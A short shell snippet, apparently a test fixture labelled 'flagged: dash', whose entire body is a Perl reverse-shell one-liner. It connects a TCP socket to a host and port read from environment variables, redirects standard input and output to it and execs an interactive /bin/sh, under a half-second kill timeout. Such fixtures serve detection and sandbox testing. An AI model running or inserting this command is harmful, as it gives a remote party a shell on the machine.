# flagged: dash
# A shell that asks takes no other signal for an order to end.
timeout -s KILL 0.5 perl -MSocket -e '
  socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
  connect(S, sockaddr_in($ENV{RG_TCP_PORT}, inet_aton($ENV{RG_TCP_HOST}))) or die;
  open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
  exec("/bin/sh -i");'
